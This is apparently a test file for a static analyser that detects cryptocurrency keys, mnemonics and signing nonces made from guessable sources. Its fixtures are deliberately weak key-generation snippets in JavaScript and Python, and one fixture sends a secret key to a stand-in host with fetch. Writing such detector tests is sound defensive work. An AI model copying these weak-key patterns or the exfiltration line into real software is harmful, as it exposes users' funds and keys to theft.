import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { analyseSources } from './testing/analyseSources.ts';

/** What makes a key, and how surely it is of what can be guessed; undefined where nothing says so. */
type Making = readonly [what: string, confidence: 'high' | 'medium' | undefined, text: string];

const REQUIRED = `const c = require('crypto'); const bip39 = require('bip39'); const secp = require('@noble/secp256k1');
const { ec: EC } = require('elliptic'); const nacl = require('tweetnacl'); const { Keypair } = require('@solana/web3.js');
`;
const IMPORTED = `import os, random, time, secrets, hashlib, uuid
from datetime import datetime
from eth_account import Account
from mnemonic import Mnemonic
from nacl.signing import SigningKey
from solders.keypair import Keypair
`;

const JAVASCRIPT: readonly Making[] = [
  ['nonce constant', 'high', `module.exports.s = (m, key) => secp.sign(m, key, { k: 1n });`],
  ['nonce constant number', 'high', `module.exports.s = (m, key) => secp.sign(m, key, { k: 1 });`],
  [
    'elliptic k function',
    'high',
    `const ec = new EC("secp256k1"); module.exports.s = (m, key) => ec.sign(m, key, { k: () => 7 });`,
  ],
  [
    'elliptic k guess',
    'high',
    `const ec = new EC("secp256k1"); module.exports.s = (m, key) => ec.sign(m, key, { k: Date.now() });`,
  ],
  [
    'elliptic k deterministic',
    undefined,
    `const ec = new EC("secp256k1"); const BN = require("bn.js"); module.exports.s = (m, key, k) => ec.sign(m, key, { canonical: true, k: () => new BN(k) });`,
  ],
  [
    'genKeyPair entropy',
    'high',
    `const ec = new EC("secp256k1"); module.exports.s = () => ec.genKeyPair({ entropy: String(Date.now()) });`,
  ],
  [
    'genKeyPair pers',
    undefined,
    `const ec = new EC("secp256k1"); module.exports.s = () => ec.genKeyPair({ pers: String(Date.now()), entropy: c.randomBytes(32) });`,
  ],
  [
    'rng',
    'high',
    `module.exports.s = () => bip39.generateMnemonic(128, (n) => { const b = Buffer.alloc(n); for (let i = 0; i < n; i++) b[i] = Math.random() * 256; return b; });`,
  ],
  ['rng strong', undefined, `module.exports.s = () => bip39.generateMnemonic(128, (n) => c.randomBytes(n));`],
  ['rng constant', 'high', `module.exports.s = () => bip39.generateMnemonic(128, (n) => Buffer.alloc(n, 7));`],
  [
    'setPRNG',
    'high',
    `nacl.setPRNG((x, n) => { for (let i = 0; i < n; i++) x[i] = Math.floor(Math.random() * 256); }); module.exports.s = () => nacl.sign.keyPair();`,
  ],
  [
    'setPRNG strong',
    undefined,
    `nacl.setPRNG((x, n) => { const v = c.randomBytes(n); for (let i = 0; i < n; i++) x[i] = v[i]; }); module.exports.s = () => nacl.sign.keyPair();`,
  ],
  [
    'randomBytes replaced',
    'high',
    `c.randomBytes = (n) => { const b = Buffer.alloc(n); for (let i = 0; i < n; i++) b[i] = Math.random() * 256; return b; };module.exports.make = () => bip39.entropyToMnemonic(c.randomBytes(16));`,
  ],
  [
    'randomBytes replaced by constant',
    'high',
    `c.randomBytes = (n) => Buffer.alloc(n, 3); module.exports.make = () => bip39.entropyToMnemonic(c.randomBytes(16));`,
  ],
  [
    'getRandomValues replaced',
    'high',
    `globalThis.crypto.getRandomValues = (a) => { for (let i = 0; i < a.length; i++) a[i] = Date.now() >> i; return a; };module.exports.make = () => bip39.entropyToMnemonic(c.randomBytes(16));`,
  ],
  [
    'getRandomValues polyfill',
    undefined,
    `if (!globalThis.crypto) globalThis.crypto = c.webcrypto; globalThis.crypto.getRandomValues = (a) => { c.randomFillSync(a); return a; };module.exports.make = () => bip39.entropyToMnemonic(c.randomBytes(16));`,
  ],
  [
    'seeded prng',
    'high',
    `function mul(a) { return () => { a |= 0; a = a + 0x6D2B79F5 | 0; let t = Math.imul(a ^ a >>> 15, 1 | a); t = t + Math.imul(t ^ t >>> 7, 61 | t) ^ t; return ((t ^ t >>> 14) >>> 0) / 4294967296; } } module.exports.make = () => { const r = mul(Date.now()); const b = Buffer.alloc(16); for (let i = 0; i < 16; i++) b[i] = r() * 256; return bip39.entropyToMnemonic(b.toString("hex")); };`,
  ],
  [
    'seeded prng in a class',
    'high',
    `class R { constructor(s) { this.s = s } next() { this.s = (this.s * 1103515245 + 12345) & 0x7fffffff; return this.s & 255 } } module.exports.make = () => { const r = new R(process.hrtime()[1]); const b = new Uint8Array(32); for (let i = 0; i < 32; i++) b[i] = r.next(); return Keypair.fromSeed(b); };`,
  ],
  [
    'hash in between, other file',
    'high',
    `module.exports.make = () => Keypair.fromSeed(c.createHash("sha256").update(new Date().toISOString()).digest());`,
  ],
  [
    'pbkdf2 of clock',
    'high',
    `module.exports.make = () => Keypair.fromSeed(c.pbkdf2Sync(String(Date.now()), "salt", 1000, 32, "sha256"));`,
  ],
  [
    'hash object in two steps',
    'high',
    `module.exports.make = () => { const h = c.createHash("sha256"); h.update(String(process.pid)); h.update(String(performance.now())); return Keypair.fromSeed(h.digest()); };`,
  ],
  [
    'mixed: concat',
    undefined,
    `module.exports.make = () => Keypair.fromSeed(c.createHash("sha256").update(Buffer.concat([Buffer.from(String(Date.now())), c.randomBytes(32)])).digest());`,
  ],
  [
    'mixed: update twice',
    undefined,
    `module.exports.make = () => { const h = c.createHash("sha256"); h.update(String(Date.now())); h.update(c.randomBytes(32)); return Keypair.fromSeed(h.digest()); };`,
  ],
  [
    'mixed: update chain',
    undefined,
    `module.exports.make = () => Keypair.fromSeed(c.createHash("sha256").update(c.randomBytes(32)).update(String(Date.now())).digest());`,
  ],
  [
    'mixed: xor',
    undefined,
    `module.exports.make = () => { const b = c.randomBytes(32); const d = new Uint8Array(32); for (let i = 0; i < 32; i++) d[i] = b[i] ^ (Math.random() * 256); return Keypair.fromSeed(d); };`,
  ],
  [
    'mixed: template',
    undefined,
    `module.exports.make = () => Keypair.fromSeed(c.createHash("sha256").update(\`\${Date.now()}\${c.randomBytes(32).toString("hex")}\`).digest());`,
  ],
  [
    'mixed: variable over itself',
    undefined,
    `module.exports.make = () => { let s = String(Date.now()); s = c.createHash("sha256").update(s + c.randomBytes(32).toString("hex")).digest(); return Keypair.fromSeed(s); };`,
  ],
  [
    'mixed: helper',
    undefined,
    `const join = (a, b) => Buffer.concat([a, b]); module.exports.make = () => Keypair.fromSeed(c.createHash("sha256").update(join(Buffer.from(String(Date.now())), c.randomBytes(32))).digest());`,
  ],
  [
    'either',
    'high',
    `module.exports.make = () => { let k = c.randomBytes(32); if (process.env.CI === undefined) k = c.createHash("sha256").update(String(Date.now())).digest(); return Keypair.fromSeed(k); };`,
  ],
  [
    'with a password',
    'medium',
    `module.exports.make = (pw) => Keypair.fromSeed(c.createHash("sha256").update(pw + Date.now()).digest());`,
  ],
  [
    'honest id',
    undefined,
    `module.exports.make = () => ({ id: Date.now() + Math.random().toString(36), words: bip39.entropyToMnemonic(c.randomBytes(16)) });`,
  ],
  [
    'honest signed timestamp',
    undefined,
    `module.exports.s = (key) => { const body = JSON.stringify({ ts: Date.now(), nonce: Math.random() }); return secp.sign(c.createHash("sha256").update(body).digest(), key); };`,
  ],
  [
    'honest jitter',
    undefined,
    `module.exports.s = async (key) => { await new Promise((r) => setTimeout(r, Math.random() * 100)); return Keypair.fromSecretKey(key); };`,
  ],
  [
    'honest dev accounts',
    undefined,
    `module.exports.s = (i) => Keypair.fromSeed(c.createHash("sha256").update("test account " + i).digest());`,
  ],
  [
    'honest dev accounts, counter',
    undefined,
    `let n = 0; module.exports.s = () => Keypair.fromSeed(c.createHash("sha256").update("test account " + n++).digest());`,
  ],
  [
    'honest choice of a key',
    undefined,
    `module.exports.s = (keys) => Keypair.fromSecretKey(keys[Math.floor(Math.random() * keys.length)]);`,
  ],
  [
    'honest object with time',
    undefined,
    `class W { constructor(key) { this.key = key; this.made = Date.now() } pair() { return Keypair.fromSecretKey(this.key) } } module.exports.W = W;`,
  ],
  [
    'honest path with time',
    'medium',
    `const { HDKey } = require("@scure/bip32"); module.exports.s = (seed) => secp.getPublicKey(HDKey.fromMasterSeed(seed).derive("m/0/" + Date.now()).privateKey);`,
  ],
  ['honest salt', undefined, `module.exports.s = (pw) => c.scryptSync(pw, String(Date.now()), 32);`],
  [
    'honest hmac',
    undefined,
    `module.exports.s = (secret) => c.createHmac("sha256", secret).update(String(Date.now())).digest("hex");`,
  ],
];

const PYTHON: readonly Making[] = [
  [
    'clock',
    'high',
    `def make():
    return Account.from_key(hashlib.sha256(str(time.time()).encode()).digest())
`,
  ],
  [
    'random bytes',
    'high',
    `def make():
    return Account.from_key(bytes(random.getrandbits(8) for _ in range(32)))
`,
  ],
  [
    'random seeded',
    'high',
    `def make():
    r = random.Random(int(time.time()))
    return Keypair.from_seed(r.randbytes(32))
`,
  ],
  [
    'mnemonic',
    'high',
    `def make():
    return Mnemonic("english").to_mnemonic(random.randbytes(16))
`,
  ],
  [
    'by name',
    'high',
    `def make():
    return Account.from_key(private_key=hashlib.sha256(uuid.uuid1().bytes).hexdigest())
`,
  ],
  [
    'hash object',
    'high',
    `def make():
    h = hashlib.sha256()
    h.update(str(os.getpid()).encode())
    h.update(datetime.now().isoformat().encode())
    return SigningKey(h.digest())
`,
  ],
  [
    'choice of letters',
    'high',
    `def make():
    return Account.from_key("".join(random.choice("0123456789abcdef") for _ in range(64)))
`,
  ],
  [
    'urandom replaced',
    'high',
    `def weak(n):
    return random.randbytes(n)
os.urandom = weak
def make():
    return Account.create()
`,
  ],
  [
    'mixed',
    undefined,
    `def make():
    return Account.from_key(hashlib.sha256(str(time.time()).encode() + os.urandom(32)).digest())
`,
  ],
  [
    'mixed hash object',
    undefined,
    `def make():
    h = hashlib.sha256()
    h.update(str(time.time()).encode())
    h.update(secrets.token_bytes(32))
    return SigningKey(h.digest())
`,
  ],
  [
    'system random',
    undefined,
    `def make():
    r = random.SystemRandom()
    return Account.from_key(bytes(r.getrandbits(8) for _ in range(32)))
`,
  ],
  [
    'honest choice of keys',
    undefined,
    `def make(keys):
    return Account.from_key(random.choice(keys))
`,
  ],
  [
    'honest id',
    undefined,
    `def make(key):
    return {"id": uuid.uuid1(), "at": time.time(), "account": Account.from_key(key)}
`,
  ],
  [
    'honest signed',
    undefined,
    `def make(key):
    return SigningKey(key).sign(str(time.time()).encode())
`,
  ],
];

async function guessed(file: string, text: string): Promise<string | undefined> {
  const { flows, unread } = await analyseSources({ [file]: text });
  expect(unread).toEqual([]);
  return flows.find((one) => one.source === 'guessable')?.confidence;
}

describe('a key that is made of what can be guessed', () => {
  it.each(JAVASCRIPT)('in JavaScript: %s', async (_, confidence, text) => {
    expect(await guessed('a.js', REQUIRED + text)).toBe(confidence);
  });
  it.each(PYTHON)('in Python: %s', async (_, confidence, text) => {
    expect(await guessed('a.py', IMPORTED + text)).toBe(confidence);
  });

  it('is seen through many files', async () => {
    const { flows } = await analyseSources({
      'a.js': "exports.seed = () => require('./b.js').digest(String(process.hrtime()));",
      'b.js': "exports.digest = (text) => require('crypto').createHash('sha512').update(text).digest().slice(0, 32);",
      'c.js': "exports.pair = () => require('@solana/web3.js').Keypair.fromSeed(require('./a.js').seed());",
    });
    expect(flows.map(({ source, sink, confidence }) => [source, sink, confidence])).toContainEqual([
      'guessable',
      'key',
      'high',
    ]);
  });

  it('does not stop a key from being followed that is made of it', async () => {
    const { flows } = await analyseSources({
      'a.js':
        "const w = require('@solana/web3.js').Keypair.fromSeed(String(Date.now())); fetch('https://example.invalid', { body: w.secretKey });",
    });
    expect(flows.map(({ source, sink }) => `${source} to ${sink}`)).toEqual(
      expect.arrayContaining(['guessable to key', 'key to network']),
    );
  });

  const word = fc.stringMatching(/^[a-z]{3,9}[A-Z]$/u);
  it('is one under any consistent renaming', async () => {
    const theft = ([a, b, d, e]: readonly string[]): string =>
      `const ${a} = require('crypto'); class ${b} { constructor(${d}) { this.${e} = ${d} } ${a}() { return require('bip39').entropyToMnemonic(this.${e}) } }
exports.${d} = () => new ${b}(${a}.createHash('sha256').update(String(Date.now())).digest()).${a}();`;
    await fc.assert(
      fc.asyncProperty(fc.uniqueArray(word, { minLength: 4, maxLength: 4 }), async (names) => {
        expect(await guessed('a.js', theft(names))).toBe('high');
      }),
      { numRuns: 20, seed: 7 },
    );
  });
});
